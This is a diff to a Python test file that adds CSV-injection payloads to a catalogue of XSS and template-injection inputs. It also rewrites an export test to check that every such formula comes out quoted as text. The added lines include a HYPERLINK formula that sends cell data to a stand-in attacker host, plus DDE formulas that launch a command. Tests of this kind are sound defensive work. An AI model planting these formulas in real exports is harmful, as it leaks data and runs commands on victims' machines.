@@ -1,5 +1,7 @@
 """A catalogue of well-known XSS payloads in every free-text field: never rendered as markup."""
 
+import csv
+import io
 import re
 from html.parser import HTMLParser
 
@@ -49,8 +51,14 @@ PAYLOADS = [
     "{{7*7}}",
     "{% debug %}",
     "${7*7}",
+    # Spreadsheet formulas (CSV injection): in an export, a cell never starts one.
+    '=HYPERLINK("https://evil.example/?leak="&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
 ]
 MARKUP = [payload for payload in PAYLOADS if re.search(r"[<>]", payload)]
+FORMULAS = [payload for payload in PAYLOADS if payload[0] in "=+-@"]
 URL_ATTRIBUTES = {"href", "src", "action", "data", "formaction", "xlink:href"}
 
 
@@ -174,13 +182,17 @@ def test_template_syntax_in_content_is_not_evaluated(client, hostile_world):
     )
 
 
-def test_csv_export_keeps_payloads_out_of_formulas(client, hostile_world):
-    text = client.get(f"{hostile_world['maps'][0].get_absolute_url()}export.csv").content.decode(
-        "utf-8-sig"
-    )
-    for line in text.splitlines()[1:]:
-        for cell in line.split(";"):
-            assert not cell.startswith(("=", "+", "-", "@"))
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_export_keeps_payloads_out_of_formulas(client, hostile_world, formula):
+    """Every text cell of the map's CSV (names, notes, the names a relation links) holds the
+    formula, read as a spreadsheet reads it: as text, behind a quote."""
+    ecosystem = hostile_world["maps"][PAYLOADS.index(formula)]
+    text = client.get(f"{ecosystem.get_absolute_url()}export.csv").content.decode("utf-8-sig")
+    _header, *rows = csv.reader(io.StringIO(text), delimiter=";")
+    cells = [cell for row in rows for cell in row]
+    # Two actors (names, one note), the factor (name, note), the relation (both names, note).
+    assert sum(cell.startswith(f"'{formula}") for cell in cells) == 8
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
 
 
 def test_admin_pages_show_payloads_as_text(client, hostile_world):
